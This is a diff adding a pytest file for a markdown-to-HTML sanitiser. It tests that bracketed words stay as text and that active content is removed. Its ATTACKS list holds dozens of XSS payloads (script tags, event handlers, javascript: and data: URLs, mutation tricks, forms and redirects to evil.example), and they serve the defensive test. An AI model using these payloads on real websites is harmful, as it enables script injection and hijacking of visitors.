@@ -1,0 +1,165 @@
+"""HTML from posts: words in angle brackets stay, active content goes, emitters rewrite one way."""
+
+from __future__ import annotations
+
+import pytest
+from bs4 import BeautifulSoup
+
+from pipeline.html import rewrite, text_of
+from pipeline.html.rewrite import Image
+from pipeline.markdown.blocks import Markdown
+from pipeline.markdown.dialect import Dialect
+from pipeline.markdown.render import Piece, render
+
+MARKDOWN = Markdown(Dialect())
+
+
+def rendered(source: str, markdown: Markdown = MARKDOWN) -> Piece:
+    document = markdown.document(source, 1)
+    return render(markdown, document, source, 1, "post.md", lambda address: address)
+
+
+def html_of(source: str) -> str:
+    return rendered(source).html.strip()
+
+
+@pytest.mark.parametrize(
+    "word",
+    ["mask", "text", "set", "sep", "int", "path", "list", "max", "log", "view", "line", "bos", "pad",
+     "unk", "cls", "think", "answer", "svg", "math", "title", "style", "input", "|endoftext|", "s",
+     "image", "table", "code", "T", "K, V", "x>y", "2", "/s", "b"],
+)  # fmt: skip
+def test_a_lone_word_in_angle_brackets_is_text(word: str) -> None:
+    assert text_of(html_of(f"前面 <{word}> 后面 *强调* 末尾")) == f"前面 <{word}> 后面 强调 末尾"
+
+
+@pytest.mark.parametrize(
+    ("source", "html"),
+    [
+        ("x<sub>i</sub> 和 H<sup>2</sup>", "<p>x<sub>i</sub> 和 H<sup>2</sup></p>"),
+        ("按 <kbd>Ctrl</kbd>", "<p>按 <kbd>Ctrl</kbd></p>"),
+        ("一<br>二", "<p>一<br>二</p>"),
+        ("<center>居中</center>", "居中"),
+        ("<font color=red>红</font>", "<p>红</p>"),
+        ("a <!-- more --> b", "<p>a  b</p>"),
+        ("~~旧~~ <s>词</s>", "<p><s>旧</s> &lt;s&gt;词&lt;/s&gt;</p>"),
+        ("<div>\n\n里面\n\n</div>", "<div>\n<p>里面</p>\n</div>"),
+        ("外面\n\n</div>", "<p>外面</p>"),
+        ("`<mask>`", "<p><code>&lt;mask&gt;</code></p>"),
+        ("$a<b$", '<p><span class="math inline">\\(a&lt;b\\)</span></p>'),
+        ("```C++\na<b\n```", '<pre><code class="language-c++">a&lt;b\n</code></pre>'),
+        (
+            "|a|b|\n|:-|-:|\n|1|2|",
+            '<table>\n<thead>\n<tr>\n<th class="left">a</th>\n<th class="right">b</th>\n</tr>\n</thead>'
+            '\n<tbody>\n<tr>\n<td class="left">1</td>\n<td class="right">2</td>\n</tr>\n</tbody>\n</table>',
+        ),
+        ("<details><summary>题</summary>答</details>", "<details><summary>题</summary>答</details>"),
+    ],
+)  # fmt: skip
+def test_markup_that_stays(source: str, html: str) -> None:
+    assert html_of(source) == html
+
+
+ATTACKS = [
+    "<script>alert(1)</script>看",
+    "看<script src=//evil.example/x.js></script>",
+    "<img src=x onerror=alert(1)>看",
+    "<svg onload=alert(1)>看</svg>",
+    "<svg><script>alert(1)</script></svg>看",
+    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>看",
+    "<iframe src=javascript:alert(1)></iframe>看",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>看",
+    "[看](javascript:alert(1))",
+    "<a href='javascript:alert(1)'>看</a>",
+    "<a href=' java\nscript:alert(1)'>看</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>看</a>",
+    "<object data=x></object>看",
+    "<embed src=x>看",
+    "<form action=//evil.example><input name=q><button>看</button></form>",
+    "<style>body{display:none}</style>看",
+    "<div style='position:fixed;inset:0'>看</div>",
+    "<link rel=stylesheet href=//evil.example/x.css>看",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>看",
+    "<base href=//evil.example/>看",
+    "<details open ontoggle=alert(1)><summary>看</summary></details>",
+    "<video src=x onerror=alert(1)>看</video>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>看</noscript>",
+    "<b onmouseover=alert(1)>看</b>",
+    "<img src=x:alert(1) alt=看>",
+    "<<script>alert(1)//<</script>看",
+    "<sc<script>ript>alert(1)</script>看",
+    '<p title="<img src=x onerror=alert(1)>">看</p>',
+    "<!--><img src=x onerror=alert(1)>-->看",
+    "<?php echo 1 ?>看",
+    "<template><img src=x onerror=alert(1)></template>看",
+    "<title><img src=x onerror=alert(1)></title>看",
+    "<textarea><img src=x onerror=alert(1)></textarea>看",
+    "<a xlink:href=javascript:alert(1)>看</a>",
+    "<table background=javascript:alert(1)><tr><td>看</td></tr></table>",
+]
+SAFE = {"class", "href", "title", "src", "alt", "width", "height", "start", "colspan", "rowspan",
+        "open", "lang", "data-line"}  # fmt: skip
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_active_content_goes_and_its_text_stays(attack: str) -> None:
+    html = html_of(attack)
+    soup = BeautifulSoup(html, "html.parser")
+    banned = "script style svg math iframe object embed form input button link meta base video template"
+    assert soup.find_all([*banned.split(), "title", "noscript", "textarea"]) == []
+    for tag in soup.find_all(True):
+        assert set(tag.attrs) <= SAFE
+        assert "javascript:" not in str(tag.get("href", ""))
+        assert not str(tag.get("href", "")).startswith("data:")
+    assert "看" in text_of(html)
+
+
+@pytest.mark.parametrize("attack", ["<script>alert(1)</script>", "<b onclick=x()>看</b>", "<iframe src=x></iframe>"])
+def test_active_content_is_told(attack: str) -> None:
+    assert [finding.code for finding in rendered(f"一\n\n{attack}").findings] == ["active-content"]
+
+
+def test_deep_nesting_loses_no_text() -> None:
+    piece = rendered("<div>" * 5_000 + "看" + "</div>" * 5_000)
+    assert "看" in text_of(piece.html)
+    quoted = rendered("> " * 300 + "深处")
+    assert "深处" in text_of(quoted.html) or "nesting-limit" in {f.code for f in quoted.findings}
+
+
+def test_rewrite_gives_each_element_to_its_callback() -> None:
+    html = (
+        '<p><a href="https://x.example">链 <img src="assets/a-1.png" alt="图"></a> '
+        '<span class="math inline">\\(a&lt;b\\)</span></p>'
+        '<pre><code class="language-py">x &lt; 1\n</code></pre>'
+    )
+    seen: list[object] = []
+
+    def image(picture: Image) -> str:
+        seen.append(picture)
+        return '<img src="a-1.png">'
+
+    def math(tex: str, display: bool) -> str:
+        seen.append((tex, display))
+        return "<i>m</i>"
+
+    def code(source: str, language: str | None) -> str:
+        seen.append((source, language))
+        return "<pre>c</pre>"
+
+    def link(href: str, inner: str) -> str:
+        seen.append((href, inner))
+        return f"<u>{inner}</u>"
+
+    result = rewrite(html, image=image, link=link, math=math, code=code)
+    assert result == '<p><u>链 <img src="a-1.png"/></u> <i>m</i></p><pre>c</pre>'
+    assert seen == [
+        Image("assets/a-1.png", "图", None, None, None),
+        ("a<b", False),
+        ("x < 1\n", "py"),
+        ("https://x.example", '链 <img src="a-1.png"/>'),
+    ]
+
+
+def test_text_of_shows_alternative_texts_and_keeps_blocks_apart() -> None:
+    html = '<p>一<br>二 <img src="assets/x.png" alt="a&gt;b"></p><ul><li>三</li></ul>'
+    assert text_of(html) == "一\n二 a>b\n三"
